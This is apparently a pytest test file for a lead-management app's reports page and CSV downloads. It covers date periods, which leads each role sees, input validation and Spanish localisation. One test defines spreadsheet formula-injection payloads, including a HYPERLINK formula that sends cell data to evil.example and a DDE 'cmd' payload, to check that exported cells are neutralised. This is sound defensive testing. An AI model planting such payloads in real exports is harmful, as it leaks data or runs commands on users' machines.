"""The reports page and its CSV files: the period, who sees which leads, and input that is refused."""

from __future__ import annotations

import csv
import html
import io
import re
from collections.abc import Callable

import pytest
from starlette.testclient import TestClient

from leadsmanager.application.intake import LeadForm
from leadsmanager.application.users import NewUser
from leadsmanager.domain.actor import Actor
from leadsmanager.domain.lead import Channel
from leadsmanager.domain.roles import Role
from leadsmanager.domain.status import LeadStatus
from leadsmanager.entrypoints.bootstrap.container import Container
from tests.web.conftest import PASSWORD, Staff, csrf_of
from tests.web.test_languages import choose_language

FIGURE = re.compile(r'data-figure="(\w+)">([^<]*)<')


def figures(page: str) -> dict[str, str]:
    return dict(FIGURE.findall(page))


def rows(response_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response_text)))


@pytest.fixture
def worked(container: Container, staff: Staff) -> Staff:
    """The employee won their lead; the other rep's lead is still new."""
    rep = Actor(staff.ids["employee"], container.user_admin().find("employee@example.com", by=Actor.system()).role, "")
    for status in (LeadStatus.CONTACTED, LeadStatus.QUALIFIED, LeadStatus.WON):
        container.change_status()(staff.leads["employee"], status, by=rep)
    return staff


def test_a_manager_sees_the_whole_team(as_role: Callable[[str], TestClient], worked: Staff) -> None:
    page = as_role("manager").get("/reports")
    assert page.status_code == 200
    assert figures(page.text) == {"total": "3", "won": "1", "median": "≤ 1 min", "p90": "≤ 1 min", "waiting": "0"}
    assert "2026-01-31 to 2026-03-01 · UTC" in page.text  # the last 30 days up to the clock's today
    assert page.text.count("<svg") == 5 and "Employee2" in page.text


def test_an_employee_sees_only_their_own_leads(as_role: Callable[[str], TestClient], worked: Staff) -> None:
    rep = as_role("employee2")
    assert figures(rep.get("/reports").text)["total"] == "1"
    assert "Employee2" in rep.get("/reports").text and ">Employee<" not in rep.get("/reports").text
    other = worked.ids["employee"]
    assert figures(rep.get(f"/reports?assignee={other}").text)["total"] == "0"
    assert rows(rep.get("/reports/reps.csv").text)[1][:2] == ["Employee2", "1"]


def test_each_table_downloads_as_csv(as_role: Callable[[str], TestClient], worked: Staff) -> None:
    manager = as_role("manager")
    funnel = manager.get("/reports/funnel.csv?from=2026-03-01&to=2026-03-01&tz=Europe/Madrid")
    assert funnel.headers["content-type"].startswith("text/csv")
    assert 'filename="funnel-2026-03-01-to-2026-03-01.csv"' in funnel.headers["content-disposition"]
    assert rows(funnel.text) == [
        ["Stage", "Leads", "Of the leads that came in (%)"],
        ["new", "3", "100.0"],
        ["contacted", "1", "33.3"],
        ["qualified", "1", "33.3"],
        ["proposal", "1", "33.3"],  # a won lead went past it
        ["won", "1", "33.3"],
        ["lost", "0", "0.0"],
    ]
    reps = rows(manager.get("/reports/reps.csv").text)
    assert reps[0][-2:] == ["Median first response (minutes, at most)", "90th percentile (minutes, at most)"]
    assert reps[-1][:2] == ["Everyone", "3"] and reps[-1][-3:] == ["1", "1", "1"]
    assert manager.get("/reports/nothing.csv").status_code == 404


def test_a_period_without_leads_says_so(as_role: Callable[[str], TestClient], worked: Staff) -> None:
    page = as_role("manager").get("/reports?from=2025-01-01&to=2025-01-31")
    assert figures(page.text)["total"] == "0" and figures(page.text)["median"] == "—"
    assert "No leads in this period." in page.text and "nothing in this period" in page.text


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("tz=Mars/Olympus", "unknown time zone"),
        ("from=yesterday", "from must be a date"),
        ("from=2026-03-02&to=2026-03-01", "ends before it starts"),
        ("assignee=none", "not unassigned leads"),
    ],
)
def test_bad_input_is_named(as_role: Callable[[str], TestClient], staff: Staff, query: str, message: str) -> None:
    response = as_role("manager").get(f"/reports?{query}")
    assert response.status_code == 400 and message in response.text
    # Said above the recent report, not instead of it, and what was typed is still in the form.
    assert 'id="report-refused"' in response.text and 'data-figure="total">3<' in response.text
    typed = dict(pair.split("=") for pair in query.split("&"))
    assert all(f'name="{name}" value="{value}"' in response.text for name, value in typed.items() if name != "assignee")


def test_the_sources_are_named_in_the_readers_language_and_the_csv_keeps_their_keys(
    as_role: Callable[[str], TestClient], worked: Staff
) -> None:
    manager = as_role("manager")
    choose_language(manager, "es")
    page = manager.get("/reports?from=&to=").text
    table = page[page.index('id="report-sources"') :].split("</table>")[0]
    assert ">formulario web<" in table and ">web_form<" not in table
    assert ">formulario web</text>" in page  # the chart's bar
    assert rows(manager.get("/reports/sources.csv?from=&to=").text)[1][0] == "web_form"


def test_a_time_zone_is_offered_as_it_is_typed_and_a_wrong_one_is_said_in_spanish(
    as_role: Callable[[str], TestClient], staff: Staff
) -> None:
    manager = as_role("manager")
    choose_language(manager, "es")
    page = manager.get("/reports?tz=Buenos+Aires")
    assert page.status_code == 400
    assert "No se mostró: zona horaria desconocida 'Buenos Aires'" in html.unescape(page.text)
    assert '<option value="America/Argentina/Buenos_Aires">' in page.text


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


def test_report_csv_cells_never_start_a_formula(
    as_role: Callable[[str], TestClient], container: Container, staff: Staff
) -> None:
    hyperlink, plus, minus, at = FORMULAS
    rep = container.user_admin().create(NewUser("at@example.com", at, Role.EMPLOYEE, PASSWORD), by=Actor.system())
    form = LeadForm(Channel.API, name=hyperlink, email="f@example.com", service=hyperlink, site=plus, form_id=minus)
    container.assign_lead()(container.submit_lead()(form).lead_id, rep.id, by=Actor.system())
    manager = as_role("manager")
    cells = {
        cell
        for name in ("sites", "services", "reps")
        for row in rows(manager.get(f"/reports/{name}.csv").text)
        for cell in row
    }
    assert {f"'{formula}" for formula in FORMULAS} <= cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_an_intralog_pipelines_report_follows_its_stages(
    as_role: Callable[[str], TestClient], container: Container, staff: Staff, keys: dict[str, dict[str, str]]
) -> None:
    """The funnel runs along intralog's stages; the excluded lead is in the statuses, not the funnel."""
    container.apply_preset()("intralog", actor="cli", moves={"new": "esperandoDatos"})
    boss = Actor(staff.ids["manager"], Role.MANAGER, "")
    move = container.change_status()
    for stage in ("faltaCotizar", "nuevoCliente"):
        move(staff.leads["employee"], stage, by=boss)
    move(staff.leads["employee2"], "negativo", by=boss)
    manager = as_role("manager")
    shown = figures(manager.get("/reports").text)
    assert (shown["total"], shown["won"], shown["waiting"]) == ("3", "1", "0")
    assert rows(manager.get("/reports/funnel.csv").text)[1:] == [
        ["esperandoDatos", "2", "100.0"],
        ["faltaCotizar", "1", "50.0"],
        ["cotizado", "1", "50.0"],  # the won lead went past them
        ["avanzando", "1", "50.0"],
        ["nuevoCliente", "1", "50.0"],
        ["lost", "0", "0.0"],
    ]
    statuses = {key: n for key, n in rows(manager.get("/reports/statuses.csv").text)[1:]}
    assert (statuses["esperandoDatos"], statuses["nuevoCliente"], statuses["negativo"]) == ("1", "1", "1")
    stats = manager.get("/api/v1/stats", headers=keys["read"]).json()
    assert stats["excluded"] == 1 and stats["by_status"]["negativo"] == 1
    assert stats["conversion_by_source"][0]["rate"] == 0.5  # won 1 of the 2 leads that were sales


STAGE_CELL = re.compile(r'data-stage="(\w+)">([^<]*)<')


def stage_cells(page: str) -> list[tuple[str, str]]:
    return STAGE_CELL.findall(page)


def test_an_intralog_pipelines_report_and_dashboard_name_stages_in_the_readers_language(
    as_role: Callable[[str], TestClient], container: Container, staff: Staff
) -> None:
    container.apply_preset()("intralog", actor="cli", moves={"new": "esperandoDatos"})
    boss = Actor(staff.ids["manager"], Role.MANAGER, "")
    container.change_status()(staff.leads["employee2"], "negativo", by=boss)
    manager = as_role("manager")
    english = manager.get("/reports?from=&to=").text
    assert stage_cells(english)[:2] == [
        ("esperandoDatos", "1) Waiting for details"),
        ("faltaCotizar", "2) Quote pending"),
    ]
    assert ("lost", "Lost") in stage_cells(english)  # the funnel's lost leads: no stage has that key
    assert ("negativo", "8) Not a prospect") in stage_cells(english)  # leads by status now
    assert ">1) Waiting for details</text>" in english  # the funnel chart's bars
    assert "esperandoDatos<" not in english and ">esperandoDatos" not in english
    token = csrf_of(manager.get("/profile").text)
    assert manager.post("/profile", data={"language": "es", "csrf_token": token}).status_code == 303
    spanish = manager.get("/reports?from=&to=").text
    assert stage_cells(spanish)[:2] == [("esperandoDatos", "1) Esperando datos"), ("faltaCotizar", "2) Falta cotizar")]
    assert ("noAvanzo", "5) No avanzó") in stage_cells(spanish) and ("lost", "Perdidos") in stage_cells(spanish)
    dashboard = manager.get("/").text
    assert ">1) Esperando datos</span>" in dashboard and ">8) Negativo</span>" in dashboard
    assert 'data-status="negativo">1<' in dashboard and 'data-status="new"' not in dashboard
    # The CSV files keep the keys: a spreadsheet or a script reads them as the API names the stages.
    assert rows(manager.get("/reports/statuses.csv").text)[1] == ["esperandoDatos", "2"]
    listed = manager.get("/leads").text
    assert '<option value="negativo" >8) Negativo</option>' in listed and 'value="new"' not in listed
